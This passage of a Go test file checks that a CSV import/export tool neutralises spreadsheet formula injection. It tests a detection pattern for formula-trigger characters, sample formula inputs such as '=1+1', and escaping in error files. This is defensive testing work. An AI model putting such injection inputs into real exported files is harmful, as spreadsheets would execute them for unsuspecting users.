		}
		for i, text := range hostileTexts {
			if got := rawRows[i+1][column]; got != text {
				t.Errorf("%s: raw, %q is %q", kind, text, got)
			}
		}
		for _, cell := range slices.Concat(rows...) {
			runs := strings.ContainsAny(cell[:min(len(cell), 1)], "=+-@\t\r") || strings.IndexAny(cell, "＝＋－＠") == 0
			if _, err := strconv.ParseFloat(cell, 64); runs && (err != nil || strings.ContainsAny(cell, "eE")) {
				t.Errorf("%s: a spreadsheet would run %q", kind, cell)
			}
		}
		to.ok("import " + kind + " " + to.file(kind+".csv", exported))
		raw.ok("import " + kind + " -raw " + raw.file(kind+".csv", plain))
		for _, other := range []*till{to, raw} {
			if d := cmp.Diff(exported, other.ok("export "+kind)); d != "" {
				t.Errorf("%s, imported again:\n%s", kind, d)
			}
		}
	}
}

// TestRejectedFormulas: nor does it in a file of errors.
func TestRejectedFormulas(t *testing.T) {
	s := newTill(t)
	s.ok("apply " + s.file("org.json", string(setup{}.document())))
	for _, cell := range []string{"=1+1", "'=1+1"} {
		file := s.file("c.csv", "firstName,email,phoneNumber\n"+cell+",no,\n=a\"b\n")
		s.run("import customers " + file)
		want := "line,reason,firstName,email,phoneNumber\n3,no es CSV válido: hay comillas mal puestas,\"'=a\"\"b\"\n2,El email no tiene un formato válido,'=1+1,no,\n"
		if got := string(readFile(t, file+".errors.csv")); got != want {
			t.Errorf("%s: %s", cell, got)
		}
	}
}

// TestGuard: for all texts, guarded ones are no formulas, and what is guarded comes back.
func TestGuard(t *testing.T) {
	histories(t, 2000, func(t *testing.T, rnd *rand.Rand) {
		var text []rune
		for range rnd.IntN(6) {
			text = append(text, pick(rnd, []rune("'= +-@\t\r\n＝15.ae;\u00a0")...))
		}
		row := []string{string(text)}
		guardCells(row)
		if guarded := row[0]; strings.IndexAny(guarded, "=@\t\r\n＝") == 0 {
			t.Errorf("%q is guarded as %q", string(text), guarded)
		}
		unguardCells(row)
		if row[0] != string(text) {
			t.Errorf("%q comes back as %q", string(text), row[0])
		}
	})
}
